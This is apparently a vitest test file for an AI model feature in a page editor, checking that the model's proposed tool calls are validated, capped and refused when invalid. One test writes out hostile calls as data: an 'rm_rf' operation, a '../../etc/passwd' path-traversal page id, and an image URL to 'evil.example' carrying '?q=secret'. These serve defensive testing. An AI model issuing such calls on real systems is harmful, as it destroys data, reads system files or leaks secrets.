import { expect, it } from 'vitest'
import type { Change } from '#engine/commands/index.ts'
import { clonePlain, createElement, createProject } from '#engine/document/index.ts'
import { addElement } from '#engine/document/operations/index.ts'
import type { ChatChunk } from '#server/api/chat.ts'
import { askModel, MAX_ROUNDS } from '#src/screens/editor/assistant/ask-model.ts'

type Call = [name: string, input: unknown]

const text = (content: string) => ({ choices: [{ index: 0, delta: { content } }] })
const calls = (...all: Call[]) => ({
  choices: [
    {
      index: 0,
      delta: {
        tool_calls: all.map(([name, input], index) => ({
          index,
          function: { name, arguments: typeof input === 'string' ? input : JSON.stringify(input) },
        })),
      },
    },
  ],
})

function work() {
  const project = createProject()
  const [page] = project.pages
  if (!page) throw new Error('a page')
  const title = addElement(page, createElement('qk-text', { propsValue: { text: '春季新品发布会' } }))
  return { project, page: page.uuid, title: title.uuid }
}

/** Asks a model that answers with these chunks, one list a round; the last one is repeated. */
async function ask(project = work().project, ...rounds: unknown[][]) {
  const before = clonePlain(project)
  const requests: { role: string; content?: unknown }[][] = []
  let answer = ''
  let changes: Change[] = []
  let problem: string | null
  try {
    problem = await askModel({
      project,
      messages: [{ role: 'user', content: '改短标题' }],
      signal: new AbortController().signal,
      async *stream({ messages }) {
        requests.push([...messages])
        const round = rounds[Math.min(requests.length, rounds.length) - 1] ?? []
        for (const chunk of round) yield chunk as ChatChunk
      },
      onText: (said) => {
        answer = said
      },
      onChanges: (found) => {
        changes = found
      },
    })
  } catch (error) {
    problem = (error as Error).message
  }
  expect(project).toEqual(before)
  const results = requests
    .at(-1)
    ?.filter(({ role }) => role === 'tool')
    .map(({ content }) => content)
  return { requests, results, answer, changes, problem }
}

it('collects what the model proposes, and lets it go on until it is done', async () => {
  const { project, title } = work()
  const first = [text('我来'), text('改。'), calls(['set_text', { element: title, text: '春季新品' }])]
  const { answer, changes, requests, problem } = await ask(project, first, [text('已提出。')])
  expect(answer).toBe('我来改。\n\n已提出。')
  expect(problem).toBeNull()
  expect(requests).toHaveLength(2)
  expect(changes).toMatchObject([
    { label: '修改文字', differences: [{ before: '春季新品发布会', after: '春季新品' }] },
  ])
})

it('sends refusals back with the reason, and reads pages for the model', async () => {
  const { project, page, title } = work()
  const { results, changes, problem } = await ask(
    project,
    [
      calls(
        ['set_text', { element: 'nobody', text: 'x' }],
        ['rm_rf', {}],
        ['set_text', '{"element":'],
        ['read_page', { page }],
        ['read_page', { page: '../../etc/passwd' }],
        ['change_page', { page, backgroundImage: 'https://evil.example/?q=secret' }],
      ),
    ],
    [calls(['set_text', { element: title, text: '新品' }])],
    [],
  )
  expect(results?.slice(0, 6)).toEqual([
    expect.stringContaining('没有元素') as string,
    expect.stringContaining('没有这个操作') as string,
    '{"refused":"参数不是有效的 JSON"}',
    expect.stringContaining('春季新品发布会') as string,
    '{"refused":"没有这个页面"}',
    expect.stringContaining('不能使用外部地址') as string,
  ])
  expect(changes).toHaveLength(1)
  expect(problem).toBeNull()
})

it('ends after a few rounds', async () => {
  const { requests, problem } = await ask(undefined, [calls(['set_text', { element: 'nobody', text: 'x' }])])
  expect(requests).toHaveLength(MAX_ROUNDS)
  expect(problem).toContain('没有列出')
})

it.each<[what: string, chunks: () => unknown[], says: string]>([
  ['text without end', () => Array.from({ length: 200 }, () => text('很长'.repeat(1000))), '回答太长'],
  [
    'thousands of calls',
    () => [calls(...Array.from({ length: 3000 }, (): Call => ['set_title', { title: '新' }]))],
    '一次提出的改动超过',
  ],
  [
    'a call of ten megabytes',
    () => Array.from({ length: 100 }, () => calls(['set_title', 'x'.repeat(100_000)])),
    '提出的改动太大',
  ],
  ['nothing, again and again', () => Array.from({ length: 100_001 }, () => ({})), '没完没了'],
])('stops at %s', async (_, chunks, says) => {
  const { problem } = await ask(undefined, chunks())
  expect(problem).toContain(says)
})

it('takes only what has the form of an answer', async () => {
  const nonsense: unknown[] = [
    null,
    1,
    { choices: 'x' },
    { choices: [null] },
    { choices: [{ delta: { content: 5, tool_calls: {} } }] },
    { choices: [{ delta: { tool_calls: [null] } }] },
  ]
  const { answer, changes } = await ask(undefined, [...nonsense, text('好')], [])
  expect(answer).toBe('好')
  expect(changes).toEqual([])
})
